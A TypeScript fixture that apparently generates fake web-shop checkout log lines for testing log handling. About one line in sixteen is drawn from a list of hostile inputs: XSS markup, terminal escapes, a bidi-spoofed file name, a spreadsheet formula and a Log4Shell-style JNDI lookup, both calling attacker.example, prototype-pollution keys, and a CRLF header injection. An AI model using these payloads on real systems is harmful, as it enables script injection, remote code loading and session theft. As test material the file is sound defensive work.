import { requestId } from "./request-id.ts";

const PAGES = ["/cart", "/cart/items", "/address", "/pay", "/thanks"];

/** What strangers manage to get into a log: markup, terminal escapes, reversed text, formulas, prototype keys, very long lines. */
const HOSTILE: readonly string[] = [
  `<img src=x onerror="document.title='owned'"> in the name field`,
  "<script>alert(1)</script>",
  "\u001b[31mred\u001b[0m \u001b]0;owned\u0007 \u001b[2J terminal escapes",
  "invoice\u202Efdp.exe reversed by a bidi override",
  "zero\u200Bwidth\u200Bspaces and a \uFEFF byte order mark",
  `=HYPERLINK("http://attacker.example","click")`,
  `{"level":"info","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}},"msg":"prototype keys"}`,
  `{"level":"info","msg":"unclosed`,
  "$\u007bjndi:ldap://attacker.example/a} {{7*7}} %s%n",
  `\r\nHTTP/1.1 200 OK\r\nSet-Cookie: session=stolen`,
  `long ${"x".repeat(9000)}`,
  "emoji 👩‍👩‍👧‍👦 and combining Z̷̢̛a̴l̵g̶o̷",
];

/** A line of a web shop: JSON, with one in sixteen hostile. */
export function writeCheckoutLine(index: number, random: number): string {
  if (random % 16 === 0) return HOSTILE[(random >>> 8) % HOSTILE.length] ?? "";
  const page = PAGES[(random >>> 4) % PAGES.length] ?? "/";
  const level = random % 40 === 1 ? "error" : random % 12 === 1 ? "warn" : "info";
  const status = level === "error" ? 500 : level === "warn" ? 429 : 200;
  return `{"level":"${level}","msg":"GET ${page}","status":${status},"request_id":"${requestId(random)}","ms":${5 + (random % 400)},"cart":{"items":${index % 9}}}`;
}
